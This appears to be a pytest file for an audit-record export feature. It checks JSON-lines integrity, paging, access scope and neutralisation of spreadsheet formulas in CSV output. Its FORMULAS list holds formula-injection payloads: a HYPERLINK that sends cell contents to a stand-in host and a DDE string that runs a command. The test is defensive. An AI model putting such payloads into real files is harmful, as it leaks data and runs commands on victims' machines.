"""The record as a file: whole, in order, and harmless to a spreadsheet (SEC-46, LGPD-08)."""

import csv
import io
import json

import pytest

from appliance import audit
from appliance.audit import searching
from appliance.audit.exporting import export
from appliance.database import Database
from appliance.reach import Reach
from appliance.records import Caller
from tests.audit.writing import ANA, written

FORMULAS = ['=HYPERLINK("http://canary.test/?"&A1)', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)",
            "\t=1", "\r=1", "'=1"]  # fmt: skip


def test_json_lines_hold_every_act_with_its_place_in_the_chain(database: Database) -> None:
    written(database, 3)

    text = "".join(export(database, audit.wanted(), "jsonl"))

    lines = [json.loads(line) for line in text.splitlines()]
    assert [line["subject"] for line in lines] == ["k1", "k2", "k3"]
    assert lines[0]["details"] == {"name": "robô 1"}
    head = audit.head(database)
    assert head is not None
    assert f"{lines[-1]['id']}:{lines[-1]['hash']}" == str(head)


@pytest.mark.guarantee("SEC-46")
@pytest.mark.parametrize("text", FORMULAS)
def test_no_cell_of_a_csv_begins_like_a_formula(database: Database, text: str) -> None:
    with database.write() as db:
        audit.record(db, Caller(kind="person", id="p", name=text), "key.create", text, note=text)

    lines = "".join(export(database, audit.wanted(), "csv"))

    assert lines.startswith("\ufeff")
    _, row = csv.reader(io.StringIO(lines.removeprefix("\ufeff"), newline=""))
    assert row[3] == row[5] == f"'{text}"
    assert not [cell for cell in row if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert json.loads(row[6]) == {"note": text}


def test_a_csv_has_a_line_of_names_and_one_for_each_act(database: Database) -> None:
    with database.write() as db:
        audit.record(db, ANA, "key.create", "k1", name='robô; "um",\nou dois')

    text = "".join(export(database, audit.wanted(), "csv")).removeprefix("\ufeff")

    names, row = csv.reader(io.StringIO(text, newline=""))
    assert names == ["id", "at", "caller", "name", "act", "subject", "details", "hash"]
    assert row[3:7] == ["Ana Prado", "key.create", "k1", '{"name":"robô; \\"um\\",\\nou dois"}']


@pytest.mark.parametrize("form", ["jsonl", "csv"])
def test_a_long_record_comes_page_by_page(
    database: Database, form: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(searching, "PAGE", 2)
    written(database, 5)

    pieces = list(export(database, audit.wanted(), form))  # type: ignore[arg-type]

    assert len(pieces) == 3 + (form == "csv")
    assert "".join(pieces).count("key.create") == 5


def test_only_what_is_wanted_and_within_reach_is_in_it(database: Database) -> None:
    written(database, 2)
    with database.write() as db:
        audit.record(db, ANA, "document.add", "d1", collections=["walled"])
    walled = Reach(closed=frozenset(["walled"]), within=None)

    found = "".join(export(database, audit.wanted(), "jsonl", reach=walled))
    wanted = "".join(export(database, audit.wanted(subject="k2"), "jsonl"))

    assert '"d1"' not in found
    assert found.count("\n") == 2
    assert json.loads(wanted)["subject"] == "k2"
